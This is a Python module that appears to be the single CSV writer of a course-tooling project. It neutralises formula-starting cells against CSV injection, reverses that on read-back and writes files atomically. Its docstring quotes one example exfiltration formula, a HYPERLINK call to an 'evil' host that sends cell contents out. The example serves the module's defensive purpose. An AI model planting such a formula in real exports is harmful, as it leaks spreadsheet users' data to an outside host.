"""The one CSV writer: every CSV file we produce is written here, with formula cells neutralised.

Names, ids, file names and messages in our CSVs come from students and platforms. A spreadsheet
reads a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or line break, which it strips
first) as a formula: ``=HYPERLINK("http://evil/?"&A1, "click")`` in a Moodle full name would run in
the instructor's Excel. Following OWASP's rule for CSV injection, such a cell is written with a
leading ``'``, which spreadsheets show as text; a cell that is only a number (``-0.25``, ``1e-3``)
is a value, not a formula, and is written as it is. A cell that starts with ``'`` before such a
character gets one more, so ``read_cell`` undoes the neutralisation exactly (our own mapping file
is read back). Full-width ``＝＋－＠``, which some spreadsheets normalise, count as formula starts too.

``tests/autograder/test_one_writer.py`` fails when a module outside this one uses ``csv.writer``.
"""
from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from pathlib import Path

FORMULA_START = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
_LEADING_BLANKS = " \u00a0"


def _formula_like(text: str) -> bool:
    first = text.lstrip(_LEADING_BLANKS)[:1]
    return bool(first) and first in FORMULA_START and not NUMBER.fullmatch(text)


def safe_cell(value: object) -> str:
    """``value`` as a CSV cell a spreadsheet will not evaluate (numbers written as numbers; None empty)."""
    text = "" if value is None else value if isinstance(value, str) else str(value)
    if _formula_like(text.lstrip("'")):
        return "'" + text             # also "-inf", "nan": not numbers a spreadsheet knows
    return text


def read_cell(text: str) -> str:
    """The value a cell written by ``safe_cell`` stood for (its neutralising ``'`` removed)."""
    if text.startswith("'") and _formula_like(text.lstrip("'")):
        return text[1:]
    return text


def csv_text(header: Sequence[object] | None, rows: Iterable[Sequence[object]], *, delimiter: str = ",",
             neutralise: bool = True) -> str:
    """The CSV text of ``header`` (if any) and ``rows``, every cell neutralised. Lines end in CRLF (RFC 4180):
    Python's writer quotes only the cells holding a character of its line terminator, so with a bare LF
    a carriage return inside a name would end the row for every reader (a forged row).

    ``neutralise=False`` is for an import file that a platform's own importer reads as text, never a
    spreadsheet (Particify's question import, written from the question bank): there a leading ``'``
    would be shown to the class, e.g. before the option "-2"."""
    cell = safe_cell if neutralise else (lambda value: "" if value is None else str(value))
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n", delimiter=delimiter)
    if header is not None:
        writer.writerow([cell(value) for value in header])
    for row in rows:
        writer.writerow([cell(value) for value in row])
    return buffer.getvalue()


def csv_row(cells: Sequence[object], *, neutralise: bool = True) -> str:
    """One row as CSV text without its line end (for templates that lay out a file row by row)."""
    return csv_text(None, [cells], neutralise=neutralise)[:-2]


def write_csv(path: Path, header: Sequence[object] | None, rows: Iterable[Sequence[object]], *,
              delimiter: str = ",") -> Path:
    """Write the CSV file at ``path`` (UTF-8, replaced atomically: a reader never sees half a file)."""
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    tmp = path.with_name(f".{path.name}.tmp")
    tmp.write_bytes(csv_text(header, rows, delimiter=delimiter).encode("utf-8"))
    tmp.replace(path)
    return path
